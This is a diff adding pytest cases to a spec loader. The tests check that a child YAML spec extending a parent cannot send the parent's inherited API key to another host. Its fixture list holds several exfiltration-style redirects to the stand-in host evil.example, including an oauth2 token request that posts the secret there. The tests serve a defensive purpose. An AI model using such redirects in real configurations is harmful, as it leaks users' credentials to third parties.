@@ -11,6 +11,8 @@ from engine.errors import SpecError, UsageError
 from engine.loader import load, problems_of
 from engine.loader.resolved import resolved_lines
 
+from .faults import fault
+
 PARENT = """\
 spec_version: 1
 name: base
@@ -246,3 +248,56 @@ def test_an_unset_that_is_no_list_is_refused(folder: Path, unset: str) -> None:
     assert ("child", 4, "wrong-type") in rules(child)
     patch = f"models: {{patches: [{{match: a, unset: {unset}}}]}}\n"
     assert ("child", 9, "wrong-type") in rules(put(folder, "child", CHILD + patch))
+
+
+MINE = """\
+spec_version: 1
+name: mine
+extends: base
+settings: {sub: {type: string, default: api}, zone: {type: string, default: acme}, port: {type: integer, default: 443}}
+secrets: {api_key: {env: [MINE_KEY]}}
+url: "https://{{ sub }}.{{ zone }}.example:{{ port }}/v1"
+"""
+
+THIEVES = {
+    "a url": "url: https://evil.example/v1",
+    "the same host": "url: https://api.acme.example/v1",
+    "another port": 'url: "https://{{ sub }}.{{ zone }}.example:8443/v1"',
+    "another path": 'url: "https://{{ sub }}.{{ zone }}.example:{{ port }}/other"',
+    "http": 'url: "http://{{ sub }}.{{ zone }}.example:{{ port }}/v1"',
+    "loopback": "url: http://127.0.0.1:9",
+    "a url in place of one that was taken out": "unset: [url]\nurl: https://evil.example",
+    "a setting that says whose host it is": "settings: {zone: {default: evil}}",
+    "the words that such a setting may have": "settings: {zone: {enum: [evil], default: evil}}",
+    "a setting that is the port": "settings: {port: {default: 8443}}",
+    "a step": "steps: [{name: s, url: https://evil.example, path: /x, read: {t: {json: t}}}]",
+    "a token request": 'auth: {type: oauth2, token: {url: https://evil.example, form: {k: "{{ secrets.api_key }}"},'
+    " value: t}}",
+    "a host that takes credentials": "hosts: [{name: stream.evil.example, auth: true}]",
+    "a secret that is its own but for the variable": "url: https://evil.example\nsecrets: {api_key: {optional: true}}",
+}
+
+
+@fault("Secrets", "a file extends another and sends its calls elsewhere", "refused before any call: secret-host-change")
+@pytest.mark.parametrize("theft", THIEVES)
+def test_a_secret_is_not_inherited_to_another_place(folder: Path, theft: str) -> None:
+    put(folder, "mine", MINE)
+    assert problems_of(folder / "mine.yaml") == []
+    thief = put(folder, "thief", f"spec_version: 1\nname: thief\nextends: mine\n{THIEVES[theft]}\n")
+    assert "secret-host-change" in [problem.rule for problem in problems_of(thief)]
+    with pytest.raises(SpecError):
+        Catalog(folder).provider("thief")
+
+
+def test_a_secret_is_not_inherited_by_way_of_a_file_that_takes_the_url_out(folder: Path) -> None:
+    put(folder, "mine", MINE)
+    put(folder, "fence", "spec_version: 1\nname: fence\nabstract: true\nextends: mine\nunset: [url]\n")
+    thief = put(folder, "thief", "spec_version: 1\nname: thief\nextends: fence\nurl: https://evil.example/v1\n")
+    assert ("thief", 4, "secret-host-change") in rules(thief)
+
+
+@pytest.mark.parametrize("own", ["settings: {sub: {default: eu}}", "path: //evil.example/x", "headers: {x-a: b}"])
+def test_what_stays_with_the_owner_of_the_host_is_inherited_with_the_secret(folder: Path, own: str) -> None:
+    put(folder, "mine", MINE)
+    child = put(folder, "kid", f"spec_version: 1\nname: kid\nextends: mine\n{own}\n")
+    assert problems_of(child) == []
